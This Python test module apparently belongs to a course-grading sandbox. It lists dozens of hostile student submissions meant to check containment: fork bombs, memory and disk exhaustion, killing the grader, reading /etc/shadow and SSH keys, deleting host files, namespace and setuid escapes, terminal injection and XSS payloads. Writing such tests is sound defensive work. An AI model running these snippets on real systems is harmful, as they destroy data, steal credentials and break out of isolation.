"""Submissions that want to do harm: to the machine, to others, or to learn secrets.

Each keeps a bound of its own, far above what the sandbox allows, so that a sandbox that
failed would be found out by `breach(...)` and the machine would survive it.
"""

from __future__ import annotations

from typing import Any

from .base import OWN_ERROR, Attack, running

__all__ = ["BESIDE", "HARMING"]

_ENDED = "WorkerEnded"  # the process was gone, and every later cell says so
_DENIED = "OSError PermissionError FileNotFoundError ProcessLookupError"


def _harm(name: str, tries: str, q2: str, **more: Any) -> Attack:
    """Make an attack that does its harm where the second answer should be.

    The first answer's evidence is on the disk by then, and stays.
    """
    return running("harming", name, tries, q2=q2, **more)


def _refused(name: str, tries: str, q2: str, stops: str = _DENIED) -> Attack:
    """Make an attack of which the sandbox says no to its author's face."""
    return _harm(name, tries, q2, stops=stops)


def _slow(name: str, tries: str, q2: str) -> Attack:
    return _harm(name, tries, q2, limits="time", impatient=True)


_TIME = [
    _slow("endless-loop", "A loop without an end.", "while True:\n    pass"),
    _slow("sleep", "It sleeps for a day.", "import time\ntime.sleep(86_400)"),
    _slow(
        "regular-expression",
        "A search that takes for ever in C, where no signal of Python's is heard.",
        'import re\nre.match(r"(a|a)*$", "a" * 60 + "b")',
    ),
    _slow("sum-in-c", "A sum that takes for ever in C.", "sum(range(10**13))"),
    _slow(
        "numpy-for-ever",
        "A product of matrices that keeps C busy.",
        "a = np.ones((1500, 1500))\nfor _ in range(10**6):\n    a = a @ a % 7",
    ),
    _slow("huge-power", "A number too large to be.", "x = 7 ** (10**9)"),
    _slow(
        "signals-ignored",
        "All signals are ignored, and errors caught, for ever.",
        """\
import signal

for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
    ),
    _slow(
        "loop-in-the-answer",
        "The answer itself never comes back.",
        "def spread(x):\n    while True:\n        pass",
    ),
    _slow(
        "waiting-for-input",
        "It waits for somebody who types, or for a pipe that stays empty.",
        """\
import os
ours, theirs = os.pipe()
os.read(ours, 1)
""",
    ),
    _slow(
        "lock",
        "A thread waits for itself.",
        "import threading\nlock = threading.Lock()\nlock.acquire()\nlock.acquire()",
    ),
    _slow(
        "stopped-by-itself",
        "The process stops itself, so that it neither runs nor ends.",
        "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
    ),
    _slow(
        "time-in-a-child",
        "A child does the work, so that the parent's clock stands still.",
        """\
import os

child = os.fork()
if child == 0:
    while True:
        pass
os.waitpid(child, 0)
""",
    ),
    _harm(
        "never-collected",
        "An object whose end has no end.",
        """\
class Endless:
    def __del__(self):
        while True:
            pass

keep = Endless()
""",
    ),
    _harm(
        "endless-exit",
        "What is done at the exit never ends.",
        """\
import atexit, time, threading
atexit.register(time.sleep, 86_400)
threading.Thread(target=time.sleep, args=(86_400,)).start()
""",
    ),
]

_PROCESSES = [
    _harm(
        "fork-bomb",
        "Processes that make processes.",
        """\
import os, time

made = 0
open("/proc/self/comm", "w").write("@TOKEN@")
try:
    for made in range(3_000):
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
except OSError:
    pass
else:
    breach(f"{made} processes")
""",
    ),
    _harm(
        "thread-bomb",
        "Threads without a number.",
        """\
import threading, time

made = []
try:
    for _ in range(5_000):
        thread = threading.Thread(target=time.sleep, args=(30,), daemon=True)
        thread.start()
        made.append(thread)
except RuntimeError:
    pass
else:
    breach(f"{len(made)} threads")
""",
    ),
    _harm(
        "daemon",
        "A process that leaves its parents, its session and its group behind.",
        """\
import os, signal, time

if os.fork() == 0:
    os.setsid()
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    if os.fork() == 0:
        open("/proc/self/comm", "w").write("@TOKEN@")
        for number in range(256):
            try:
                os.close(number)
            except OSError:
                pass
        time.sleep(120)
    os._exit(0)
""",
    ),
    _harm(
        "daemon-by-another-program",
        "A shell that is told to hang on when everybody has gone.",
        """\
import subprocess, sys

code = "import time; time.sleep(120)"
subprocess.Popen([sys.executable, "-c", code, "@TOKEN@"], start_new_session=True,
                 stdin=-3, stdout=-3, stderr=-3)
""",
    ),
    _harm(
        "reaper",
        "It makes itself the parent of all orphans, and has many.",
        """\
import ctypes, os, time

ctypes.CDLL(None).prctl(36, 1, 0, 0, 0)
for _ in range(10):
    if os.fork() == 0:
        if os.fork() == 0:
            open("/proc/self/comm", "w").write("@TOKEN@")
            time.sleep(120)
        os._exit(0)
""",
    ),
    _harm(
        "unkillable-children",
        "Children that stop when they are traced by each other.",
        """\
import ctypes, os, time

libc = ctypes.CDLL(None)
for _ in range(5):
    if os.fork() == 0:
        open("/proc/self/comm", "w").write("@TOKEN@")
        libc.ptrace(0, 0, 0, 0)
        os.kill(os.getpid(), 19)
        time.sleep(120)
""",
    ),
    _harm(
        "kills-its-parent",
        "The process that started it is killed.",
        "import os\nos.kill(os.getppid(), 9)",
        stops=_ENDED,
    ),
    _slow(
        "stops-its-parent",
        "The process that started it is stopped, and never goes on.",
        "import os\nos.kill(os.getppid(), 19)",
    ),
    _harm(
        "kills-all",
        "Everything that may be killed is killed.",
        "import os\nos.kill(-1, 9)",
        stops=_ENDED,
    ),
    _harm(
        "kills-its-group",
        "The process group is killed, whoever is in it.",
        "import os\nos.killpg(0, 9)",
        stops=_ENDED,
    ),
    _harm(
        "kills-the-first",
        "The first process of the sandbox is killed.",
        "import os\nos.kill(1, 9)\nos.kill(2, 9)",
        stops=f"{_DENIED} {_ENDED}",
    ),
    _refused(
        "kills-the-grader",
        "The grader is killed by its number.",
        "import os\nos.kill(@PID@, 9)\nbreach('killed')",
    ),
    _refused(
        "traces-its-parent",
        "The process that started it is traced.",
        """\
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
if libc.ptrace(16, os.getppid(), 0, 0) == 0:
    breach("traced")
raise PermissionError(ctypes.get_errno())
""",
    ),
    _refused(
        "reads-its-parent",
        "The memory of the process that started it is read.",
        """\
import os

with open(f"/proc/{os.getppid()}/mem", "rb") as memory:
    breach("the memory opens")
""",
    ),
    _refused(
        "writes-to-its-parent",
        "The memory of the process that started it is written to by a system call.",
        """\
import ctypes, os

class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]

libc = ctypes.CDLL(None, use_errno=True)
kept = ctypes.create_string_buffer(8)
here = Part(ctypes.addressof(kept), 8)
there = Part(id(None), 8)
for call in ("process_vm_readv", "process_vm_writev"):
    done = getattr(libc, call)(os.getppid(), ctypes.byref(here), 1,
                               ctypes.byref(there), 1, 0)
    if done > 0:
        breach(call)
raise PermissionError(ctypes.get_errno())
""",
    ),
    _harm(
        "crash",
        "The interpreter crashes.",
        "import ctypes\nctypes.string_at(0)",
        stops=_ENDED,
    ),
    _harm(
        "leaves",
        "The process ends as if all were well.",
        "import os\nos._exit(0)",
        stops=_ENDED,
    ),
    _harm(
        "exit-error",
        "The cell asks the interpreter to leave.",
        "raise SystemExit(0)",
        stops="SystemExit",
    ),
    _harm(
        "interrupt",
        "The cell behaves as if somebody had pressed Ctrl-C.",
        "raise KeyboardInterrupt",
        stops="KeyboardInterrupt",
    ),
    _harm(
        "recursion",
        "It calls itself beyond the end of the stack.",
        """\
import sys, threading
sys.setrecursionlimit(10**9)
threading.stack_size(64 * 2**20)
def down(): down()
thread = threading.Thread(target=down)
thread.start()
thread.join()
""",
        stops=f"RecursionError MemoryError {_ENDED}",
        limits="memory",
    ),
]

_MEMORY = [
    _harm(
        "memory-list",
        "A list that takes all memory.",
        """\
kept = []
while len(kept) < 5_000:
    kept.append(b"x" * 2**20)
breach("5 GB in a list")
""",
        stops="MemoryError",
        limits="memory",
    ),
    _harm(
        "memory-array",
        "An array that takes all memory.",
        "kept = np.ones(5 * 2**27)\nbreach('5 GB in an array')",
        stops="MemoryError",
    ),
    _harm(
        "memory-in-children",
        "Children take a little memory each, and much together.",
        """\
import os, time

children = []
for _ in range(16):
    child = os.fork()
    if child == 0:
        try:
            kept = np.ones(300 * 2**17)
            time.sleep(3)
        except BaseException:
            os._exit(1)
        os._exit(0)
    children.append(child)
if all(os.waitpid(child, 0)[1] == 0 for child in children):
    breach("5 GB in 16 processes")
""",
        limits="memory",
    ),
    _harm(
        "memory-mapped",
        "Anonymous shared memory is mapped and filled.",
        """\
import mmap

kept = []
for _ in range(50):
    kept.append(mmap.mmap(-1, 100 * 2**20))
    kept[-1].write(bytes(100 * 2**20))
breach("5 GB mapped")
""",
        stops="OSError MemoryError",
        limits="memory",
    ),
    _harm(
        "memory-in-files",
        "Files that live in memory are filled.",
        """\
import os

handle = os.memfd_create("big")
for _ in range(5_000):
    if os.write(handle, bytes(2**20)) < 2**20:
        raise OSError("full")
breach("5 GB in a file of memory")
""",
        stops="OSError MemoryError",
        limits="memory",
    ),
    _harm(
        "memory-by-system-v",
        "Shared memory that outlives every process.",
        """\
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
for _ in range(50):
    name = libc.shmget(0, 100 * 2**20, 0o1600)
    place = libc.shmat(name, None, 0)
    if name < 0 or place in (None, 2**64 - 1):
        raise OSError("no shared memory")
    ctypes.memset(place, 1, 100 * 2**20)
breach("5 GB of shared memory")
""",
        stops="OSError",
        limits="memory",
    ),
    _harm(
        "memory-in-pipes",
        "Buffers of the kernel are filled.",
        """\
import fcntl, os

total = 0
for _ in range(1_000):
    ours, theirs = os.pipe()
    fcntl.fcntl(theirs, 1031, 2**20)
    total += os.write(theirs, bytes(2**20))
if total > 500 * 2**20:
    breach(total)
""",
        stops=_DENIED,
    ),
]

_DISK = [
    _harm(
        "fills-what-it-can",
        "Every folder that can be written to is filled.",
        """\
import os

total = 0
for folder, inner, _ in os.walk("/"):
    if folder.startswith(("/proc", "/sys")) or not os.access(folder, os.W_OK):
        continue
    try:
        with open(f"{folder}/@TOKEN@.big", "wb", buffering=0) as file:
            for _ in range(1_500):
                total += file.write(bytes(2**20))
    except OSError:
        pass
if total > 4_000 * 2**20:
    breach(f"{total} bytes on the disk")
""",
    ),
    _harm(
        "many-large-files",
        "Files that are each below the limit of a file, and many.",
        """\
import os

total = 0
for number in range(400):
    try:
        with open(evidence._folder / f"{number}.big", "wb") as file:
            total += file.write(bytes(10 * 2**20))
    except OSError:
        break
else:
    breach(f"{total} bytes in the folder of the evidence")
""",
    ),
    _harm(
        "many-small-files",
        "Files without content, until there are no more names.",
        """\
made = 0
try:
    for made in range(300_000):
        (evidence._folder / str(made)).touch()
except OSError:
    pass
else:
    breach(f"{made} files")
""",
        limits="files",
    ),
    _harm(
        "file-in-file",
        "A folder so deep that removing it needs care.",
        """\
import os

os.chdir(evidence._folder)
for _ in range(4_000):
    os.mkdir("deeper")
    os.chdir("deeper")
""",
        limits="files",
    ),
    _harm(
        "descriptors",
        "Files are opened until there are no more descriptors.",
        """\
kept = []
try:
    while len(kept) < 100_000:
        kept.append(open("/dev/null"))
except OSError:
    pass
else:
    breach(f"{len(kept)} descriptors")
""",
    ),
    _harm(
        "core-dump",
        "A crash leaves its memory on the disk.",
        """\
import os, resource, signal

try:
    resource.setrlimit(resource.RLIMIT_CORE, (-1, -1))
except (OSError, ValueError):
    pass
os.kill(os.getpid(), signal.SIGQUIT)
""",
        stops=_ENDED,
    ),
]

_OUTPUT = [
    _harm(
        "prints-for-ever",
        "Output without an end.",
        "while True:\n    print('@TOKEN@' * 100_000)",
        stops="MemoryError",
        limits="memory",
    ),
    _harm(
        "writes-to-descriptors",
        "The real standard output and error are flooded.",
        """\
import os

for _ in range(2_000):
    for number in (1, 2):
        try:
            os.write(number, b"@TOKEN@" * 10_000)
        except OSError:
            pass
""",
    ),
    _harm(
        "displays",
        "Three hundred pictures.",
        """\
from IPython.display import HTML, display
for _ in range(300):
    display(HTML("<b>" + "x" * 100_000))
""",
    ),
    _harm(
        "error-of-a-hundred-megabytes",
        "The message of an exception is a hundred megabytes long.",
        "raise ValueError('@TOKEN@' * 10_000_000)",
        stops="ValueError MemoryError",
    ),
    _harm(
        "error-that-cannot-be-read",
        "An exception whose message and name cannot be read.",
        """\
class Name(type):
    @property
    def __name__(self): raise SystemExit(3)
    def __str__(self): raise SystemExit(3)

class Error(Exception, metaclass=Name):
    def __str__(self): raise SystemExit(3)
    __repr__ = __str__
    @property
    def __traceback__(self): raise SystemExit(3)

raise Error
""",
    ),
    _harm(
        "warnings",
        "A hundred thousand warnings.",
        """\
import warnings
warnings.simplefilter("always")
for number in range(100_000):
    warnings.warn(str(number), stacklevel=1)
""",
    ),
    _harm(
        "terminal",
        "Output that rewrites the terminal of whoever reads it.",
        "print('\\x1b]0;@TOKEN@\\x07\\x1b[2J\\x1b[31m\\x1b]52;c;cm0gLXJm\\x07')",
    ),
    _harm(
        "markup",
        "Output and names that are code in a report.",
        """\
print("<script>document.title = '@TOKEN@'</script>")
type("<img src=x onerror=alert(1)>", (), {})()
""",
    ),
    _refused(
        "names-of-errors",
        "The name of an exception carries a hidden input into the report.",
        """\
hidden = f"@TOKEN@_{seed}_{x[0]}"
raise type(hidden, (Exception,), {})(hidden)
""",
        OWN_ERROR,
    ),
    _refused(
        "names-of-errors-in-disguise",
        "The exception says it is one of Python's own, and is called otherwise.",
        """\
class Error(ValueError):
    __module__ = "builtins"
    __qualname__ = "@TOKEN@"

Error.__name__ = f"@TOKEN@_{seed}"
raise Error(seed)
""",
        OWN_ERROR,
    ),
]

# To whatever the runner listens: its one socket, whose number nobody told.
_SOCKETS = """\
import json, os, stat, time

names = filter(str.isdigit, os.listdir("/proc/self/fd"))
sockets = []
for number in map(int, names):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            sockets.append(number)
    except OSError:
        pass
if not sockets:
    raise LookupError("no socket")

def say(content):
    for number in sockets:
        left = content
        while left:
            left = left[os.write(number, left):]

"""


def _replying(name: str, tries: str, code: str, **more: Any) -> Attack:
    """Make an attack that speaks to the grader in the runner's name."""
    return _harm(name, tries, _SOCKETS + code, **more)


_REPLIES = [
    _replying(
        "reply-of-many-outputs",
        "A reply of sixty thousand outputs, each of which may be looked at.",
        """\
output = {"output_type": "stream", "name": "stdout", "text": ""}
say(json.dumps({"outputs": [output] * 60_000, "failure": None}).encode() + b"\\n")
""",
    ),
    _replying(
        "reply-too-deep",
        "A reply that is a tower of lists.",
        'say(b"[" * 1_000_000 + b"\\n")',
        stops=_ENDED + " " + "RecursionError",
    ),
    _replying(
        "reply-of-a-long-number",
        "A reply with a number of a million digits.",
        'say(b\'{"outputs": \' + b"9" * 1_000_000 + b"}\\n")',
        stops=_ENDED,
    ),
    _replying(
        "reply-that-lies",
        "A reply that speaks of an error with a name from the grader's own report.",
        """\
failure = {"name": {"@TOKEN@_": 1}, "message": ["@TOKEN@_"], "traceback": 7}
say(json.dumps({"outputs": [failure, None, 7], "failure": failure}).encode() + b"\\n")
""",
        stops=OWN_ERROR,
    ),
    _replying(
        "reply-without-an-end",
        "A reply that comes letter by letter, and never ends.",
        """\
while True:
    say(b" ")
    time.sleep(0.01)
""",
        limits="time",
        impatient=True,
    ),
    _replying(
        "reply-too-long",
        "A reply of a gigabyte.",
        'for _ in range(1_000):\n    say(b" " * 2**20)',
        limits="output",
    ),
    _replying(
        "deaf",
        "Nothing that the grader says is read, and nothing is answered.",
        """\
import socket
for number in sockets:
    socket.socket(fileno=number).shutdown(socket.SHUT_RD)
""",
        stops=_ENDED,
        spoils=True,
    ),
]

_NETWORK = [
    _refused(
        "host-by-loopback",
        "A server of the host is asked by the loopback.",
        """\
import socket

with socket.create_connection(("127.0.0.1", @PORT@), timeout=2) as asking:
    asking.sendall(b"@TOKEN@")
    breach("the host's own server")
""",
        "ConnectionRefusedError OSError PermissionError TimeoutError",
    ),
    _refused(
        "host-by-loopback-6",
        "A server of the host is asked by the other loopback, and by all addresses.",
        """\
import socket

for host in ("0.0.0.0", "127.0.0.53", "::1", "localhost", socket.gethostname()):
    try:
        socket.create_connection((host, @PORT@), timeout=1).close()
    except OSError:
        continue
    breach(host)
raise ConnectionRefusedError
""",
        "ConnectionRefusedError",
    ),
    _refused(
        "outside",
        "An address of the internet is asked, and a name is looked up.",
        """\
import socket

try:
    socket.getaddrinfo("example.org", 80)
except OSError:
    pass
else:
    breach("names are looked up")
with socket.create_connection(("192.0.2.1", 80), timeout=2):
    breach("outside")
""",
        "OSError",
    ),
    _refused(
        "datagrams",
        "A packet is sent to whoever hears it.",
        """\
import socket

sending = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sending.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
for place in (("192.0.2.1", 53), ("255.255.255.255", 53)):
    sending.sendto(b"@TOKEN@", place)
breach("a packet went out")
""",
        "OSError PermissionError",
    ),
    _refused(
        "abstract-socket",
        "A socket of the host that has no file is asked.",
        """\
import socket

asking = socket.socket(socket.AF_UNIX)
asking.connect("\\0@TOKEN@-host")
breach("the host's abstract socket")
""",
        "ConnectionRefusedError OSError PermissionError",
    ),
    _refused(
        "socket-in-a-file",
        "A socket of the host that has a file is asked.",
        """\
import socket

asking = socket.socket(socket.AF_UNIX)
asking.connect("@WORLD@/socket")
breach("the host's socket")
""",
    ),
    _refused(
        "raw-packets",
        "Packets are made by hand.",
        "import socket\nsocket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)\n"
        "breach('raw packets')",
    ),
]

_SECRETS = [
    _harm(
        "environment-of-the-grader",
        "The grader's environment is looked through for secrets.",
        """\
import glob, os

if "COURSEKIT_ATTACK_SECRET" in os.environ:
    breach(os.environ["COURSEKIT_ATTACK_SECRET"])
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        with open(path, "rb") as file:
            content = file.read()
    except OSError:
        continue
    if b"ATTACK_SECRET" in content:
        breach(path)
""",
    ),
    _harm(
        "files-of-the-host",
        "Everything that can be read is searched for a secret of the host.",
        """\
import os

needle = b"secret-of" + b"-the-host"
for folder, inner, files in os.walk("/"):
    if folder in ("/proc", "/sys", "/dev"):
        inner.clear()
        continue
    for name in files:
        path = os.path.join(folder, name)
        try:
            if os.stat(path).st_size < 10_000 and name.endswith((".txt", ".ipynb")):
                with open(path, "rb") as file:
                    if needle in file.read():
                        breach(path)
        except OSError:
            pass
""",
    ),
    _refused(
        "home",
        "A key in the home of whoever grades is read.",
        'breach(open("@WORLD@/home/.ssh/id_rsa").read())',
    ),
    _harm(
        "passwords",
        "The passwords of the system are read, or the names of its users.",
        """\
for path in ("/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/crontab",
             "/var/run/docker.sock", "/run/docker.sock", "/etc/ssh/ssh_config"):
    try:
        with open(path) as file:
            breach(path + file.read())
    except OSError:
        pass
""",
    ),
    _harm(
        "devices",
        "Disks, memory and consoles are opened.",
        """\
import glob, os

for path in ["/dev/mem", "/dev/kmsg", "/dev/kvm", "/dev/vda", "/dev/sda", "/dev/fuse",
             "/dev/console", "/dev/net/tun", *glob.glob("/dev/*da*")]:
    try:
        handle = os.open(path, os.O_RDWR)
    except OSError:
        continue
    breach(path)
""",
    ),
    _harm(
        "settings-of-the-kernel",
        "Settings of the kernel are changed.",
        """\
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger",
             "/proc/sys/vm/drop_caches", "/sys/power/state",
             "/proc/sys/kernel/hostname", "/sys/kernel/uevent_helper"):
    try:
        with open(path, "r+") as file:
            breach(path)
    except OSError:
        pass
""",
    ),
    _harm(
        "messages-of-the-kernel",
        "The log and the symbols of the kernel are read.",
        """\
import ctypes

kept = ctypes.create_string_buffer(1000)
if ctypes.CDLL(None).klogctl(3, kept, 1000) > 0:
    breach("the kernel's log")
try:
    with open("/proc/kallsyms") as file:
        if any(int(line.split()[0], 16) for line in file):
            breach("the kernel's symbols")
except OSError:
    pass
""",
    ),
]

_ESCAPES = [
    _harm(
        "deletes-everything",
        "Everything of the host that the learner can name is removed.",
        """\
import os, shutil

shutil.rmtree("@WORLD@", ignore_errors=True)
for name in ("secret.txt", "others/ada.ipynb", "home/.ssh/id_rsa", "socket"):
    try:
        os.unlink(f"@WORLD@/{name}")
    except OSError:
        pass
    else:
        breach(name)
""",
    ),
    _harm(
        "rewrites-everything",
        "Files of the host are overwritten, moved and made longer.",
        """\
import os

for name in ("secret.txt", "others/ada.ipynb", "home/.ssh/id_rsa", "@TOKEN@"):
    for flags in (os.O_WRONLY | os.O_TRUNC, os.O_WRONLY | os.O_APPEND,
                  os.O_WRONLY | os.O_CREAT):
        try:
            handle = os.open(f"@WORLD@/{name}", flags)
        except OSError:
            continue
        breach(name)
""",
    ),
    _harm(
        "environment-of-python",
        "The packages that all share are changed.",
        """\
import os, shutil, numpy, coursekit

for module in (os, numpy, coursekit):
    folder = os.path.dirname(module.__file__)
    for path in (module.__file__, f"{folder}/@TOKEN@.py"):
        try:
            with open(path, "a"):
                breach(path)
        except OSError:
            pass
    if os.access(folder, os.W_OK):
        breach(folder)
""",
    ),
    _harm(
        "remount",
        "What is read-only is mounted again, and more over it.",
        """\
import ctypes

libc = ctypes.CDLL(None)
REMOUNT, BIND = 32, 4096
for target in (b"/", b"/usr", b"/proc", b"/etc"):
    if libc.mount(b"none", target, None, REMOUNT | BIND, None) == 0:
        breach(target)
    if libc.mount(b"tmpfs", target, b"tmpfs", 0, None) == 0:
        breach(target)
    if libc.umount2(target, 2) == 0:
        breach(target)
""",
    ),
    _harm(
        "namespaces-within",
        "A namespace of one's own gives back the powers that were taken.",
        """\
import ctypes, os

libc = ctypes.CDLL(None)
NEWUSER, NEWNS, NEWNET = 0x10000000, 0x20000, 0x40000000
if os.fork() == 0:
    if libc.unshare(NEWUSER | NEWNS) == 0:
        if libc.mount(b"tmpfs", b"/usr", b"tmpfs", 0, None) == 0:
            breach("a user namespace with mounts")
    os._exit(0)
os.wait()
""",
    ),
    _harm(
        "namespaces-of-others",
        "The namespaces of another process are entered.",
        """\
import ctypes, glob, os

libc = ctypes.CDLL(None)
for path in glob.glob("/proc/[0-9]*/ns/*"):
    try:
        if os.readlink(path) == os.readlink("/proc/self/ns/" + os.path.basename(path)):
            continue
        handle = os.open(path, os.O_RDONLY)
    except OSError:
        continue
    if libc.setns(handle, 0) == 0:
        breach(path)
""",
    ),
    _harm(
        "changes-root",
        "A new root, and then out of it.",
        """\
import os

try:
    os.mkdir("/tmp/jail")
    os.chroot("/tmp/jail")
except OSError:
    pass
else:
    breach("chroot")
""",
    ),
    _harm(
        "other-users",
        "It becomes another user, or runs a program that may.",
        """\
import ctypes, os, subprocess

for call in (os.setuid, os.setgid, os.seteuid):
    for number in (0, 1, 1000):
        if number in (os.getuid(), os.getgid()):
            continue
        try:
            call(number)
        except OSError:
            continue
        breach((call, number))
with open("/proc/self/status") as file:
    told = {line.partition(":")[0]: line.partition(":")[2].strip() for line in file}
if int(told["CapEff"], 16) or int(told["CapPrm"], 16):
    breach(told["CapEff"])
if told["NoNewPrivs"] != "1":
    breach("new privileges")
if os.getuid() == 0:
    breach("root inside")
""",
    ),
    _harm(
        "programs-with-rights",
        "A program that runs with its owner's rights is looked for and made.",
        """\
import os, shutil, subprocess

for program in ("su", "sudo", "mount", "newgrp", "pkexec"):
    where = shutil.which(program)
    if where and subprocess.run([where, "-c", "id"], capture_output=True,
                                stdin=subprocess.DEVNULL, timeout=5).returncode == 0:
        breach(program)
try:
    shutil.copy("/bin/sh", "/tmp/sh")
    os.chown("/tmp/sh", 0, 0)
    os.chmod("/tmp/sh", 0o4755)
except OSError:
    pass
else:
    if os.stat("/tmp/sh").st_uid == 0:
        breach("a program of root's")
""",
    ),
    _harm(
        "limits-raised",
        "The limits are raised.",
        """\
import os, resource

for name in ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_NPROC", "RLIMIT_FSIZE",
             "RLIMIT_NOFILE", "RLIMIT_CORE", "RLIMIT_DATA"):
    kind = getattr(resource, name)
    soft, hard = resource.getrlimit(kind)
    if hard == resource.RLIM_INFINITY:
        continue
    try:
        resource.setrlimit(kind, (hard + 1, hard + 1))
    except (OSError, ValueError):
        continue
    breach(name)
try:
    os.nice(-10)
except OSError:
    pass
else:
    breach("nice")
""",
    ),
    _harm(
        "modules-of-the-kernel",
        "Code is loaded into the kernel, and the machine is renamed.",
        """\
import ctypes, os

libc = ctypes.CDLL(None)
INIT_MODULE, BPF, IO_PORT = 175, 321, 173
for number in (INIT_MODULE, BPF, IO_PORT):
    if libc.syscall(number, 0, 0, 0) == 0:
        breach(number)
if libc.sethostname(b"@TOKEN@", 8) == 0 or libc.swapon(b"/tmp/x", 0) == 0:
    breach("the machine's name")
""",
    ),
    _harm(
        "clock",
        "The clock of the machine is set.",
        """\
import time

try:
    time.clock_settime(time.CLOCK_REALTIME, time.time())
except OSError:
    pass
else:
    breach("the clock")
""",
    ),
    _harm(
        "types-into-the-terminal",
        "Letters are typed into the terminal of whoever grades.",
        """\
import fcntl, os, termios

for name in ("/dev/tty", "/dev/console", "/proc/self/fd/0", "/proc/self/fd/2"):
    try:
        handle = os.open(name, os.O_RDWR)
        fcntl.ioctl(handle, termios.TIOCSTI, b"x")
    except OSError:
        continue
    breach(name)
""",
    ),
]

HARMING = [
    *_TIME,
    *_PROCESSES,
    *_MEMORY,
    *_DISK,
    *_OUTPUT,
    *_REPLIES,
    *_NETWORK,
    *_SECRETS,
    *_ESCAPES,
]

# What a submission takes away from those that are graded at the same time: each holds
# on to what it got for some seconds.
BESIDE: dict[str, str] = {
    "processes": """\
import os, time

try:
    for _ in range(3_000):
        if os.fork() == 0:
            time.sleep(30)
except OSError:
    pass
time.sleep(3)
""",
    "keys-of-the-kernel": """\
import ctypes, time

libc = ctypes.CDLL(None)
ADD_KEY = 248
for number in range(1_000):
    if libc.syscall(ADD_KEY, b"user", str(number).encode(), b"x", 1, -3) < 0:
        break
time.sleep(3)
""",
    "pipes": """\
import fcntl, os, time

kept = []
try:
    while True:
        kept.append(os.pipe())
        fcntl.fcntl(kept[-1][1], 1031, 2**20)
except OSError:
    pass
time.sleep(3)
""",
    "watches-and-timers": """\
import ctypes, time

libc = ctypes.CDLL(None)
for call in (libc.inotify_init, lambda: libc.timerfd_create(1, 0),
             lambda: libc.eventfd(0, 0), lambda: libc.epoll_create(1)):
    while call() >= 0:
        pass
time.sleep(3)
""",
    "signals": """\
import signal, threading, time

signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
for number in range(34, 65):
    for _ in range(5_000):
        try:
            signal.pthread_kill(threading.get_ident(), number)
        except OSError:
            break
time.sleep(3)
""",
    "memory": """\
import time

kept = bytearray(500 * 2**20)
for place in range(0, len(kept), 4096):
    kept[place] = 1
time.sleep(3)
""",
}
